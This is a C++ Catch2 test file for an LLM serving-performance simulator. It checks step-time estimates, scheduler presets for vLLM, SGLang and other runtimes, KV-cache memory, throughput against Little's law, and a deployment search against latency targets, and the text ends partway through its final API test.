// Serving: the step-time surrogate against exact steps, the steady state by hand in a decode-bound and a
// prefill-bound regime, Little's law on the simulation, the schedulers the runtime presets resolve to, memory, and
// the deployment search's front against its SLA.
#include <catch2/catch.hpp>

#include <cmath>
#include <ctime>

#include "analysis/steps.hpp"
#include "helpers.hpp"
#include "io/presets.hpp"
#include "runtime/scheduler.hpp"
#include "serving/deploy.hpp"
#include "serving/serving.hpp"

using namespace infercast;

namespace {

Workload runtime_workload(const std::string& runtime, const std::string& weights = "bf16", const std::string& kv = "bf16") {
  Workload w;
  w.runtime = find_runtime_preset(runtime);
  REQUIRE(w.runtime);
  w.settings = test::settings("infercast", weights, kv);
  w.settings.fusion = w.runtime->fusion;
  w.settings.fused_mlp = w.runtime->act_in_gemm;
  w.settings.attention = w.runtime->flash_attention ? AttnImpl::Fused : AttnImpl::Unfused;
  return w;
}

System one_device(const std::string& hw) { return single_node_system(*find_hardware_preset(hw), 1); }

ServingLoad fixed(double isl, double osl) {
  ServingLoad l;
  l.isl.mean = isl;
  l.osl.mean = osl;
  return l;
}

}  // namespace

TEST_CASE("the step surrogate matches exact steps within 1%", "[serving]") {
  struct Case {
    const char* model;
    const char* system;  // "" for one H100
    int tp;
  };
  // Dense, sliding windows (Gemma-2), MoE (Qwen3-30B-A3B), MLA (DeepSeek-V2-Lite: a step with prefill work runs its
  // decode tokens absorbed and the rest expanded, ops/mla.cpp), hybrids of attention and recurrent mixers (Qwen3.5's
  // gated DeltaNet, Nemotron-3's Mamba-2: their state reads follow the sequences with a state, not the context), and
  // a tensor-parallel plan with its collectives.
  for (const Case& k : {Case{"llama-3.1-8b", "", 1}, Case{"gemma-2-9b", "", 1}, Case{"qwen3-30b-a3b", "", 1},
                        Case{"deepseek-v2-lite", "", 1}, Case{"qwen3.5-35b-a3b", "", 1}, Case{"nemotron-3-nano-30b-a3b", "", 1},
                        Case{"llama-3.1-70b", "dgx-h100", 4}}) {
    INFO(k.model);
    const ModelSpec m = test::preset_model(k.model);
    const Workload w = runtime_workload("vllm");
    const System sys = *k.system ? *find_system_preset(k.system) : one_device("nvidia-h100-sxm");
    ParallelPlan plan;
    plan.tp = k.tp;
    const StepModel sm(m, w, sys, plan, 16384, 512);
    // MLA's two forms, and a recurrent mixer's one-token and chunked kernels, split a step with prefill work.
    const std::string id = k.model;
    CHECK(sm.splits() == (id == "deepseek-v2-lite" || id == "qwen3.5-35b-a3b" || id == "nemotron-3-nano-30b-a3b"));
    const Execution& x = sm.execution();
    const std::vector<std::vector<Request>> steps = {
        {Request{1000, 1, 64}},                                        // decode
        {Request{37, 1, 3}},                                           // small decode
        {Request{5000, 1, 200}, Request{300, 1, 50}},                  // ragged decode
        {Request{0, 4096, 1}},                                         // a prefill
        {Request{2048, 1, 30}, Request{0, 1500, 1}},                   // decode with a fresh chunk
        {Request{900, 1, 100}, Request{8192, 2048, 1}},                // decode with a later chunk
        {Request{0, 700, 3}, Request{12000, 1, 7}},                    // prompts and decodes
    };
    for (const auto& st : steps) {
      StepLoad l;
      for (const auto& r : st) sm.add(l, static_cast<double>(r.cached), static_cast<double>(r.input), static_cast<double>(r.count));
      const double fast = sm.seconds(l, x), exact = sm.exact_seconds(st, x);
      INFO("step of " << l.tokens << " tokens: surrogate " << fast << " s, exact " << exact << " s");
      CHECK(fast == Approx(exact).epsilon(0.01));
    }
  }
}

TEST_CASE("the step surrogate re-times the collectives' wait of a refitted runtime", "[serving][parallel]") {
  // Llama-3.1-70B at tp 4 on a DGX H100: the tables keep the communication without the waits and the calls that wait,
  // so a runtime refitted to another wait (validation leaving a source out) re-times the step by calls x wait.
  const ModelSpec m = test::preset_model("llama-3.1-70b");
  const Workload w = runtime_workload("vllm");
  const System& sys = *find_system_preset("dgx-h100");
  ParallelPlan plan;
  plan.tp = 4;
  const StepModel sm(m, w, sys, plan, 16384, 512);
  Execution x = sm.execution();
  CHECK(x.collective_wait_s == Approx(w.runtime->collective_wait_s));
  for (const std::vector<Request>& st : {std::vector<Request>{Request{1000, 1, 64}}, std::vector<Request>{Request{0, 2048, 1}}}) {
    StepLoad l;
    for (const auto& r : st) sm.add(l, static_cast<double>(r.cached), static_cast<double>(r.input), static_cast<double>(r.count));
    const double shipped = sm.seconds(l, x);
    Execution none = x, triple = x;
    none.collective_wait_s = 0;
    triple.collective_wait_s = 3 * x.collective_wait_s;
    // 80 layers x 2 all-reduces, the embedding's all-reduce and the logits' all-gather: 162 calls per step.
    CHECK(shipped - sm.seconds(l, none) == Approx(162 * x.collective_wait_s));
    CHECK(sm.seconds(l, triple) - shipped == Approx(2 * 162 * x.collective_wait_s));
    // The exact path agrees.
    CHECK(sm.exact_seconds(st, triple) - sm.exact_seconds(st, none) == Approx(3 * 162 * x.collective_wait_s));
  }
}

TEST_CASE("runtime schedulers resolve by device", "[serving]") {
  const SchedulerSpec& v = find_runtime_preset("vllm")->scheduler;
  REQUIRE(v.stated);
  // vLLM's server defaults: 8192 tokens and 1024 sequences on >= 70 GiB GPUs other than A100s, else 2048 and 256.
  const SchedulerLimits h100 = resolve_scheduler(v, *find_hardware_preset("nvidia-h100-sxm"), 1, 1, 512);
  CHECK(h100.token_budget == 8192);
  CHECK(h100.max_num_seqs == 1024);
  CHECK(h100.memory_basis == MemoryBasis::Total);
  const SchedulerLimits a100 = resolve_scheduler(v, *find_hardware_preset("nvidia-a100-sxm-80gb"), 1, 1, 512);
  CHECK(a100.token_budget == 2048);
  CHECK(a100.max_num_seqs == 256);
  // SGLang: chunked_prefill_size 8192 below 160 GB; reserve = 512 + 1.5 x 8192 + 2 x 256 + 128 = 13440 MB.
  const SchedulerLimits sg = resolve_scheduler(find_runtime_preset("sglang")->scheduler, *find_hardware_preset("nvidia-h100-sxm"), 1, 1, 256);
  CHECK(sg.policy == StepPolicy::PrefillFirst);
  CHECK(sg.token_budget == 8192);
  CHECK(sg.reserve_bytes == Approx(13440.0 * 1048576));
  // TensorRT-LLM reserves the cache to the last token and never evicts.
  CHECK(find_runtime_preset("tensorrt-llm")->scheduler.preemption == Preemption::None);
  // A deployment's own caps win.
  CHECK(resolve_scheduler(v, *find_hardware_preset("nvidia-h100-sxm"), 1, 1, 512, 64, 4096).max_num_seqs == 64);
  // llama-server of the presets' builds runs one slot (--parallel 1) and n_batch 2048 tokens a step; mlx-lm's server
  // decodes 32 requests and prefills 8 prompts of 2048 tokens apart.
  for (const char* id : {"llama.cpp-cuda", "llama.cpp-metal", "llama.cpp-cpu", "llama.cpp-vulkan", "llama.cpp-rocm", "llama.cpp-sycl"}) {
    INFO(id);
    const SchedulerSpec& l = find_runtime_preset(id)->scheduler;
    CHECK(l.stated);
    CHECK(l.max_num_seqs == 1);
    CHECK(l.max_num_batched_tokens == 2048);
    CHECK(l.preemption == Preemption::None);
  }
  CHECK(find_runtime_preset("llama.cpp-cuda-2023")->scheduler.max_num_batched_tokens == 512);
  const SchedulerSpec& mlx = find_runtime_preset("mlx")->scheduler;
  CHECK(mlx.max_num_seqs == 32);
  CHECK(mlx.policy == StepPolicy::PrefillFirst);
}

TEST_CASE("the KV pool follows the runtime's memory fraction", "[serving]") {
  const ModelSpec m = test::preset_model("llama-3.1-8b");
  const ServingSetup s = serving_setup(m, runtime_workload("vllm"), one_device("nvidia-h100-sxm"), ParallelPlan{});
  // vLLM: 0.9 of the 79.22 GiB CUDA reports of the device's 80 GiB (0.975% hidden), less the weights and the largest
  // step's activations; the CUDA context (0.5 GB) sits in the other tenth.
  const double gib80 = 80 * 1073741824.0, hidden = 0.00975 * gib80, D = 0.5e9 + hidden;
  CHECK(s.memory.kv_bytes == Approx(0.9 * (gib80 - hidden) - s.memory.weights_bytes - s.memory.activation_bytes));
  CHECK(s.memory.device_reserve_bytes == Approx(D));
  CHECK(s.memory.kv_bytes_per_token == Approx(32 * 8 * 128 * 2 * 2.0));  // layers x KV heads x head dim x (K, V) x bf16
  const ServingSetup t = serving_setup(m, runtime_workload("tensorrt-llm"), one_device("nvidia-h100-sxm"), ParallelPlan{});
  // TensorRT-LLM: 0.9 of what is free after the context, the weights and the activations.
  CHECK(t.memory.kv_bytes == Approx(0.9 * (gib80 - D - t.memory.weights_bytes - t.memory.activation_bytes)));
  // SGLang: the total less the context, the weights and its own reserve.
  const ServingSetup g = serving_setup(m, runtime_workload("sglang"), one_device("nvidia-h100-sxm"), ParallelPlan{});
  CHECK(g.memory.kv_bytes == Approx(gib80 - D - g.memory.reserve_bytes - g.memory.weights_bytes));
  // On a Mac the OS keeps a third of 16 GiB: vLLM-like 0.9 of the total never reaches past it.
  const ServingSetup mac = serving_setup(test::preset_model("llama-3.2-1b"), runtime_workload("vllm"), one_device("apple-m1"), ParallelPlan{});
  CHECK(mac.memory.usable_bytes == Approx(16 * 1073741824.0 * 2 / 3));
  // A 70B model in bf16 does not fit one H100.
  CHECK_THROWS_WITH(serving_setup(test::preset_model("llama-3.1-70b"), runtime_workload("vllm"), one_device("nvidia-h100-sxm"), ParallelPlan{}),
                    Catch::Contains("leave no room for a KV cache"));
}

TEST_CASE("SGLang derives its running-request cap from the pool", "[serving]") {
  // model_runner.py resolve_max_num_reqs: pool tokens / context length x 512 within [2048, 4096], at most half the
  // pool's tokens. Llama-3.1-8B (131,072 positions) on an H200 holds about 921k tokens: 3,598 requests.
  const ModelSpec m = test::preset_model("llama-3.1-8b");
  const ServingSetup s = serving_setup(m, runtime_workload("sglang"), one_device("nvidia-h200-sxm"), ParallelPlan{});
  const double derived = std::floor(s.memory.kv_tokens / 131072 * 512);
  CHECK(derived > 2048);
  CHECK(derived < 4096);
  CHECK(s.limits.max_num_seqs == static_cast<long long>(derived));
  // A request's own cap wins; vLLM states its own.
  CHECK(serving_setup(m, runtime_workload("sglang"), one_device("nvidia-h200-sxm"), ParallelPlan{}, 500).limits.max_num_seqs == 500);
  CHECK(serving_setup(m, runtime_workload("vllm"), one_device("nvidia-h200-sxm"), ParallelPlan{}).limits.max_num_seqs == 1024);
}

TEST_CASE("a hybrid model's recurrent state is held per request in the KV pool", "[serving]") {
  // Qwen3-Next in fp8 on an H200: every running request holds its gated-DeltaNet state (39,518,208 bytes, as the
  // analysis counts it) beside its attention cache, whatever its length.
  const ModelSpec m = test::preset_model("qwen3-next-80b-a3b");
  const ServingSetup s = serving_setup(m, runtime_workload("vllm", "fp8"), one_device("nvidia-h200-sxm"), ParallelPlan{});
  const double state = state_bytes_per_request(group_layers(m), s.workload.settings);
  CHECK(state == 39518208.0);
  const double block = static_cast<double>(s.limits.kv_block_tokens);
  CHECK(request_kv_bytes(s, block) == Approx(block * s.memory.kv_bytes_per_token + state));
  CHECK(request_kv_bytes(s, 4 * block) - request_kv_bytes(s, block) == Approx(3 * block * s.memory.kv_bytes_per_token));
  CHECK(request_kv_bytes(s, 0) == 0);
}

TEST_CASE("steady state by hand: decode-bound", "[serving]") {
  // 8 clients, 32-token prompts and 2048 output tokens: every step but one in 2048 is a decode of 8 requests at
  // a mean context of 32 + 2048 / 2. By hand: TPOT is that step's exact time, throughput 8 / (2047 TPOT + TTFT).
  const ModelSpec m = test::preset_model("llama-3.1-8b");
  const Workload w = runtime_workload("vllm");
  const System sys = one_device("nvidia-h100-sxm");
  ServingLoad load = fixed(32, 2048);
  load.concurrency = 8;
  load.requests = 32;
  const ServingForecast f = forecast_serving(m, w, sys, ParallelPlan{}, load, 0, 0, true);
  const StepModel& sm = f.steps.front();
  const double step = sm.exact_seconds({Request{32 + 1024, 1, 8}}, sm.execution());
  CHECK(f.simulated.tpot_s.mean == Approx(step).epsilon(0.02));
  CHECK(f.steady.tpot_s.mean == Approx(step).epsilon(0.02));
  const double rate = 8.0 / (2047 * step + f.simulated.ttft_s.mean);
  CHECK(f.simulated.requests_per_s == Approx(rate).epsilon(0.03));
  CHECK(f.simulated.output_tokens_per_s == Approx(rate * 2048).epsilon(0.03));
  CHECK(f.simulated.output_tokens_per_s_per_user == Approx(1 / f.simulated.tpot_s.mean));
  CHECK(f.simulated.preemptions == 0);
}

TEST_CASE("steady state by hand: prefill-bound", "[serving]") {
  // 4 clients, 8192-token prompts, 2 output tokens, a 32768-token budget: every cycle is one step prefilling all four
  // prompts (their first tokens) and one decode step of four (their second, last tokens); vLLM hands tokens out a
  // step late, so a request's first token and finish are both seen at the end of the decode step.
  const ModelSpec m = test::preset_model("llama-3.1-8b");
  const Workload w = runtime_workload("vllm");
  const System sys = one_device("nvidia-h100-sxm");
  ServingLoad load = fixed(8192, 2);
  load.concurrency = 4;
  load.requests = 40;
  const ServingForecast f = forecast_serving(m, w, sys, ParallelPlan{}, load, 0, 32768, true);
  const StepModel& sm = f.steps.front();
  const Execution& x = sm.execution();
  const double prefill = sm.exact_seconds({Request{0, 8192, 4}}, x);
  const double decode = sm.exact_seconds({Request{8192, 1, 4}}, x);
  REQUIRE(prefill > 20 * decode);  // prefill-bound
  const double cycle = prefill + decode;
  CHECK(f.simulated.requests_per_s == Approx(4 / cycle).epsilon(0.02));
  CHECK(f.simulated.ttft_s.mean == Approx(cycle).epsilon(0.02));
  CHECK(f.simulated.e2e_s.p50 == Approx(cycle).epsilon(0.02));
  CHECK(f.simulated.tpot_s.mean == Approx(0).margin(1e-9));
  CHECK(f.simulated.prefill_steps == 10);
  CHECK(f.simulated.decode_steps == 10);
}

// One client alone (TGI: no tokens handed out a step late): its steps are its own, a prefill of the prompt and then
// one decode of one request each, by hand; the steady state once counted the client's own prompt in its TPOT (35 ms
// a token at two output tokens against 7 ms).
TEST_CASE("steady state by hand: one client alone", "[serving]") {
  const ModelSpec m = test::preset_model("llama-3.1-8b");
  const Workload w = runtime_workload("tgi");
  const System sys = one_device("nvidia-h100-sxm");
  for (double osl : {2.0, 16.0, 256.0}) {
    INFO("osl " << osl);
    ServingLoad load = fixed(1024, osl);
    load.concurrency = 1;
    load.requests = 8;
    const ServingForecast f = forecast_serving(m, w, sys, ParallelPlan{}, load, 0, 0, true);
    const StepModel& sm = f.steps.front();
    const double prefill = sm.exact_seconds({Request{0, 1024, 1}}, sm.execution());
    const double decode = sm.exact_seconds({Request{static_cast<long long>(1024 + osl / 2), 1, 1}}, sm.execution());
    for (const ServingResult* r : {&f.simulated, &f.steady}) {
      CHECK(r->ttft_s.mean == Approx(prefill).epsilon(0.01));
      CHECK(r->tpot_s.mean == Approx(decode).epsilon(0.02));
      CHECK(r->requests_per_s == Approx(1 / (prefill + (osl - 1) * decode)).epsilon(0.02));
    }
  }
}

// Data parallelism: a closed loop of C clients over dp replicas keeps at most C of them busy, so the system's
// throughput is C over the end-to-end time, in the simulation and in the steady state (one client cannot drive
// eight replicas: it was forecast 8x too fast). Llama-3.1-8B on a DGX H100 as 8 replicas.
TEST_CASE("a closed loop over data-parallel replicas serves its clients, not one client per replica", "[serving]") {
  const ModelSpec m = test::preset_model("llama-3.1-8b");
  const System& sys = *find_system_preset("dgx-h100");
  ParallelPlan plan;
  plan.dp = 8;
  for (double C : {1.0, 3.0, 20.0, 64.0}) {
    INFO("C = " << C);
    ServingLoad load = fixed(1024, 256);
    load.concurrency = C;
    load.requests = 100 * C;
    const ServingForecast f = forecast_serving(m, runtime_workload("vllm"), sys, plan, load, 0, 0, true);
    // The simulation's clients stop sending at the end, so a little less than C are in the system on average.
    const double in_system = f.simulated.requests_per_s * f.simulated.e2e_s.mean;
    CHECK(in_system <= C * 1.001);
    CHECK(in_system >= C * 0.97);
    CHECK(f.steady.requests_per_s * f.steady.e2e_s.mean == Approx(C).epsilon(0.03));
  }
}

// Pipeline parallelism: vLLM, SGLang and TensorRT-LLM keep one micro-batch per stage in flight, so a replica of pp
// stages serves as pp streams whose steps come round every max(the stages in turn, pp x the slowest stage). Before,
// one batch passed the stages alone (each stage idle while the others worked): a TP2 x PP2 replica of Llama-3.1-70B
// at 64 clients was forecast at the throughput of a single stream. By hand on the step model: the stream's decode
// step of 32 requests with two in flight; one client (one stream busy) is unchanged.
TEST_CASE("pipeline micro-batches keep every stage busy", "[serving][parallel]") {
  const ModelSpec m = test::preset_model("llama-3.1-70b");
  const System& sys = *find_system_preset("dgx-h100");
  ParallelPlan plan;
  plan.tp = 2;
  plan.pp = 2;
  Workload on = runtime_workload("vllm");
  RuntimeSpec alone_rt = *on.runtime;
  alone_rt.scheduler.pp_micro_batches = false;
  Workload off = on;
  off.runtime = &alone_rt;
  ServingLoad load = fixed(32, 2048);
  load.concurrency = 64;
  load.requests = 256;
  const ServingForecast a = forecast_serving(m, on, sys, plan, load, 0, 0, true);
  const ServingForecast b = forecast_serving(m, off, sys, plan, load, 0, 0, true);
  const StepModel& sm = a.steps.front();
  Execution two = sm.execution();
  two.pipeline_in_flight = 2;
  StepLoad half, whole;
  sm.add(half, 32 + 1024, 1, 32);
  sm.add(whole, 32 + 1024, 1, 64);
  const double cycle = sm.seconds(half, two), pass = sm.seconds(half, sm.execution());
  INFO("stream cycle " << cycle << " s, one pass " << pass << " s, the whole batch alone " << sm.seconds(whole, sm.execution()) << " s");
  CHECK(cycle >= pass);
  CHECK(cycle <= 2 * pass);
  CHECK(a.steady.tpot_s.mean == Approx(cycle).epsilon(0.02));
  CHECK(a.simulated.tpot_s.mean == Approx(cycle).epsilon(0.03));
  CHECK(b.steady.tpot_s.mean == Approx(sm.seconds(whole, sm.execution())).epsilon(0.02));
  CHECK(a.steady.mean_batch == Approx(32));
  CHECK(a.steady.limits.max_num_seqs == b.steady.limits.max_num_seqs);
  CHECK(a.steady.memory.kv_bytes == b.steady.memory.kv_bytes);
  // Little's law over both streams, and the throughput the two streams give.
  CHECK(a.steady.requests_per_s * a.steady.e2e_s.mean == Approx(64).epsilon(0.03));
  // Decode is memory-bound: a stream's step of 32 reads the weights as the whole batch's did, so the gain is the
  // whole batch's pass over the stream's cycle (about 1.09x here), not 2x.
  CHECK(a.steady.output_tokens_per_s / b.steady.output_tokens_per_s ==
        Approx(sm.seconds(whole, sm.execution()) / cycle).epsilon(0.03));
  // One client keeps one stream busy: its steps pass the stages alone, as without micro-batches.
  load.concurrency = 1;
  load.requests = 4;
  const ServingForecast a1 = forecast_serving(m, on, sys, plan, load, 0, 0, false);
  const ServingForecast b1 = forecast_serving(m, off, sys, plan, load, 0, 0, false);
  CHECK(a1.steady.tpot_s.mean == Approx(b1.steady.tpot_s.mean).epsilon(1e-9));
  CHECK(a1.steady.requests_per_s == Approx(b1.steady.requests_per_s).epsilon(1e-9));
}

TEST_CASE("Little's law holds on the simulation", "[serving]") {
  const ModelSpec m = test::preset_model("llama-3.1-8b");
  const System sys = one_device("nvidia-h100-sxm");
  for (const char* rt : {"vllm", "sglang", "tensorrt-llm"}) {
    INFO(rt);
    // Open loop: Poisson arrivals, log-normal lengths. The requests in the system averaged over time equal the
    // arrival rate times the mean latency (requests join the count at the step boundary after they arrive, so
    // the two differ by well under a step per request).
    ServingLoad open;
    open.isl = {LengthKind::LogNormal, 600, 0.8};
    open.osl = {LengthKind::LogNormal, 300, 0.8};
    open.request_rate = 6;
    open.requests = 400;
    const ServingForecast f = forecast_serving(m, runtime_workload(rt), sys, ParallelPlan{}, open, 0, 0, true);
    const ServingResult& r = f.simulated;
    CHECK(r.requests == 400);
    CHECK(r.mean_in_system == Approx(r.littles_product).epsilon(0.02));
    // Closed loop: every client has a request in the system until the last ones are sent, so the same identity
    // holds, and the average is C less the drain at the end.
    ServingLoad closed = open;
    closed.request_rate = 0;
    closed.concurrency = 24;
    const ServingForecast g = forecast_serving(m, runtime_workload(rt), sys, ParallelPlan{}, closed, 0, 0, true);
    CHECK(g.simulated.mean_in_system == Approx(g.simulated.littles_product).epsilon(0.005));
    CHECK(g.simulated.mean_in_system <= 24 + 1e-9);
    // Fixed lengths: every client finishes its last request within one request's time of the others.
    ServingLoad same = closed;
    same.isl = {LengthKind::Fixed, 600, 0};
    same.osl = {LengthKind::Fixed, 300, 0};
    same.requests = 24 * 20;
    const ServingForecast h = forecast_serving(m, runtime_workload(rt), sys, ParallelPlan{}, same, 0, 0, true);
    CHECK(h.simulated.mean_in_system == Approx(24).epsilon(0.01));
  }
}

TEST_CASE("the steady state keeps Little's law and the budget, and agrees with the simulation at one output token",
          "[serving]") {
  const ModelSpec m = test::preset_model("llama-3.1-8b");
  const System sys = one_device("nvidia-h100-sxm");
  // Closed loop: each client waits for its whole latency as it sees it, so requests/s x mean e2e = clients, with a
  // step of schedule-ahead (every runtime below), multi-step windows, and clients beyond the cap.
  struct Case {
    const char* rt;
    double isl, osl, clients;
    long long seqs;
    int steps;
  };
  for (const Case& k : {Case{"vllm", 512, 4, 64, 0, 0}, Case{"vllm", 512, 64, 64, 0, 16}, Case{"sglang", 2000, 1, 128, 0, 0},
                        Case{"vllm", 2000, 1, 128, 32, 0}, Case{"tensorrt-llm", 100, 1, 4, 0, 8}}) {
    INFO(k.rt << " isl " << k.isl << " osl " << k.osl << " clients " << k.clients << " steps " << k.steps);
    ServingLoad load = fixed(k.isl, k.osl);
    load.concurrency = k.clients;
    const ServingForecast f = forecast_serving(m, runtime_workload(k.rt), sys, ParallelPlan{}, load, k.seqs, 0, false, k.steps);
    CHECK(f.steady.requests_per_s * f.steady.e2e_s.mean == Approx(k.clients).epsilon(1e-9));
    if (k.osl == 1) CHECK(f.steady.ttft_s.mean == Approx(f.steady.e2e_s.mean).epsilon(1e-12));  // its first token is its last
  }
  // One output token each: every prompt is prefilled within the budget (8,192 tokens on an H100 for vLLM: four
  // 2,000-token prompts a step, not all 32), and prefill-first runtimes run the others' prefills before one's own.
  // The steady state's throughput within 15% of the simulation's (before: vLLM 9.4 against 18.4 requests/s, SGLang
  // 165 against 20.9).
  for (const char* rt : {"vllm", "sglang", "tgi", "tensorrt-llm"}) {
    for (double osl : {1.0, 2.0}) {
      INFO(rt << " osl " << osl);
      ServingLoad load = fixed(2000, osl);
      load.concurrency = 32;
      load.requests = 320;
      const ServingForecast f = forecast_serving(m, runtime_workload(rt), sys, ParallelPlan{}, load, 0, 0, true);
      CHECK(f.steady.requests_per_s == Approx(f.simulated.requests_per_s).epsilon(0.15));
      CHECK(f.steady.e2e_s.mean == Approx(f.simulated.e2e_s.mean).epsilon(0.2));
    }
  }
}

TEST_CASE("open-loop latency rises with the rate, across the capacity", "[serving]") {
  // Continuous batching admits arrivals at the next step until the running requests near the cap: a queue forms
  // there (M/G/c), and past the capacity the mean wait over a run of N requests grows with the rate. (Before, TTFT
  // reached 5 s just below the capacity and fell to 0.2 s just above it.)
  const ModelSpec m = test::preset_model("llama-3.1-8b");
  const System sys = one_device("nvidia-h100-sxm");
  double last_ttft = 0, last_e2e = 0;
  bool overloaded = false;
  for (double rate : {2.0, 6.0, 10.0, 13.0, 14.0, 15.0, 15.5, 15.8, 16.0, 17.0, 20.0, 30.0}) {
    INFO("rate " << rate);
    ServingLoad load = fixed(1024, 256);
    load.request_rate = rate;
    const ServingForecast f = forecast_serving(m, runtime_workload("vllm"), sys, ParallelPlan{}, load, 0, 0, false);
    CHECK(f.steady.ttft_s.mean >= last_ttft);
    CHECK(f.steady.e2e_s.mean >= last_e2e);
    CHECK(std::isfinite(f.steady.e2e_s.mean));
    last_ttft = f.steady.ttft_s.mean;
    last_e2e = f.steady.e2e_s.mean;
    for (const auto& w : f.steady.warnings) overloaded = overloaded || w.code == "serving.overloaded";
  }
  CHECK(overloaded);
  // Below the cap's reach, the wait is a fraction of a step: at 14 requests/s TTFT within 35% of the simulation's.
  ServingLoad load = fixed(1024, 256);
  load.request_rate = 14;
  load.requests = 3000;
  const ServingForecast f = forecast_serving(m, runtime_workload("vllm"), sys, ParallelPlan{}, load, 0, 0, true);
  CHECK(f.steady.ttft_s.mean == Approx(f.simulated.ttft_s.mean).epsilon(0.35));
}

TEST_CASE("the KV cache limit evicts and recomputes", "[serving]") {
  // 1024 clients with 8k prompts on one H100: far more than the pool holds; vLLM evicts, TensorRT-LLM admits only
  // what it can hold to the end.
  const ModelSpec m = test::preset_model("llama-3.1-8b");
  const System sys = one_device("nvidia-h100-sxm");
  ServingLoad load = fixed(8000, 400);
  load.concurrency = 1024;
  load.requests = 1024;
  const ServingForecast v = forecast_serving(m, runtime_workload("vllm"), sys, ParallelPlan{}, load, 0, 0, true);
  CHECK(v.simulated.memory.kv_peak_fraction <= 1.0 + 1e-9);
  CHECK(v.simulated.memory.kv_peak_fraction > 0.9);
  CHECK(v.simulated.requests == 1024);
  const ServingForecast t = forecast_serving(m, runtime_workload("tensorrt-llm"), sys, ParallelPlan{}, load, 0, 0, true);
  CHECK(t.simulated.preemptions == 0);
  CHECK(t.simulated.mean_batch <= t.simulated.memory.max_concurrency + 1);
}

TEST_CASE("a prefix hit rate applies only where the runtime caches prefixes", "[serving]") {
  // docs/serving.md, "Schedulers": vLLM V1 caches prefixes by default, LMDeploy (enable_prefix_caching False) and
  // vLLM 0.6's V0 engine do not. Half of each 4k prompt found in the cache skips half its prefill.
  const ModelSpec m = test::preset_model("llama-3.1-8b");
  const System sys = one_device("nvidia-h100-sxm");
  ServingLoad load = fixed(4000, 200);
  load.concurrency = 8;
  ServingLoad hit = load;
  hit.prefix_hit_rate = 0.5;
  const auto has_warning = [](const ServingForecast& f) {
    for (const auto& w : f.setup.warnings)
      if (w.code == "serving.prefix_caching_off") return true;
    return false;
  };
  const ServingForecast v0 = forecast_serving(m, runtime_workload("vllm"), sys, ParallelPlan{}, load, 0, 0, false);
  const ServingForecast v1 = forecast_serving(m, runtime_workload("vllm"), sys, ParallelPlan{}, hit, 0, 0, false);
  CHECK(v1.steady.ttft_s.mean < 0.8 * v0.steady.ttft_s.mean);
  CHECK(v1.load.prefix_hit_rate == 0.5);
  CHECK_FALSE(has_warning(v1));
  for (const char* rt : {"lmdeploy", "vllm-rocm-2024"}) {
    INFO(rt);
    const ServingForecast a = forecast_serving(m, runtime_workload(rt), sys, ParallelPlan{}, load, 0, 0, false);
    const ServingForecast b = forecast_serving(m, runtime_workload(rt), sys, ParallelPlan{}, hit, 0, 0, false);
    CHECK(b.steady.ttft_s.mean == a.steady.ttft_s.mean);
    CHECK(b.load.prefix_hit_rate == 0);
    CHECK(has_warning(b));
    CHECK_FALSE(has_warning(a));
  }
  // A runtime without a scheduler block is served with vLLM V1's defaults, prefix caching included.
  const ServingForecast r = forecast_serving(m, runtime_workload("llama.cpp-cuda"), sys, ParallelPlan{}, hit, 0, 0, false);
  CHECK(r.load.prefix_hit_rate == 0.5);
  CHECK_FALSE(has_warning(r));
}

TEST_CASE("every configuration on the deployment front meets the SLA", "[serving]") {
  const ModelSpec m = test::preset_model("llama-3.1-70b");
  const Workload w = runtime_workload("vllm");
  const System sys = *find_system_preset("dgx-h100");
  DeploySpec spec;
  spec.load = fixed(2048, 256);
  spec.max_ttft_s = 1.0;
  spec.max_tpot_s = 0.04;
  const DeployResult r = deploy_search(m, w, sys, 8, spec);
  CHECK(r.evaluated > 500);
  REQUIRE(r.has_best);
  REQUIRE(!r.front.empty());
  for (std::size_t i = 0; i < r.front.size(); ++i) {
    const DeployConfig& c = r.front[i];
    CHECK(c.meets_sla);
    CHECK(c.ttft_s <= spec.max_ttft_s);
    CHECK(c.tpot_s <= spec.max_tpot_s);
    CHECK(c.devices <= 8);
    CHECK(c.tokens_per_s_per_device == Approx(c.output_tokens_per_s / c.devices));
    if (i > 0) {  // Pareto: more tokens/s per user costs tokens/s per device
      CHECK(c.tokens_per_s_per_user > r.front[i - 1].tokens_per_s_per_user);
      CHECK(c.tokens_per_s_per_device < r.front[i - 1].tokens_per_s_per_device);
    }
  }
  double best = 0;
  for (const auto& c : r.front) best = std::max(best, c.tokens_per_s_per_device);
  CHECK(r.best.tokens_per_s_per_device == best);
  // Off: no disaggregated configuration; on: only disaggregated ones.
  spec.disaggregated = DisaggMode::Off;
  for (const auto& c : deploy_search(m, w, sys, 8, spec).front) CHECK_FALSE(c.disaggregated);
  spec.disaggregated = DisaggMode::On;
  for (const auto& c : deploy_search(m, w, sys, 8, spec).front) CHECK(c.disaggregated);
  // An SLA nothing meets: no best, said so.
  spec.disaggregated = DisaggMode::Auto;
  spec.max_tpot_s = 1e-4;
  const DeployResult none = deploy_search(m, w, sys, 8, spec);
  CHECK_FALSE(none.has_best);
  CHECK(none.front.empty());
}

TEST_CASE("serving and deploy through the API", "[serving]") {
  const auto v = api_value("serving", {{"model", "llama-3.1-8b"}, {"hardware", "nvidia-h100-sxm"},
                                       {"serving", {{"concurrency", 16}, {"isl", 512}, {"osl", 128}}}});
  for (const char* k : {"ttft_s", "tpot_s", "e2e_s"})
    for (const char* p : {"p50", "p90", "p99"}) CHECK(v[k][p].get<double>() > 0);
  CHECK(v["requests_per_s"].get<double>() > 0);
  CHECK(v["output_tokens_per_s_per_device"].get<double>() == Approx(v["output_tokens_per_s"].get<double>()));
  CHECK(v["method"] == "simulation");
  CHECK(v["cost"]["usd_per_million_tokens"].get<double>() > 0);
  const auto d = api_value("deploy", {{"model", "llama-3.1-8b"}, {"hardware", "nvidia-h100-sxm"}, {"deploy", {{"devices", 4}, {"max_tpot_ms", 30}}},
                                      {"serving", {{"isl", 1024}, {"osl", 256}}}});
  REQUIRE(d["best"].is_object());
  CHECK(d["best"]["launch"]["vllm"].get<std::string>().find("vllm serve meta-llama/Llama-3.1-8B") != std::string::npos);
  CHECK(d["best"]["tpot_s"].get<double>() <= 0.030);
  CHECK(d["best"]["launch"]["vllm"].get<std::string>().find("--gpu-memory-utilization 0.9") != std::string::npos);
  CHECK(d["best"]["launch"]["sglang"].get<std::string>().find("--mem-fraction-static") == std::string::npos);
  // A memory fraction the forecast used is the one each engine is launched with.
  const auto f = api_value("deploy", {{"model", "llama-3.1-8b"}, {"hardware", "nvidia-h100-sxm"}, {"memory_fraction", 0.95},
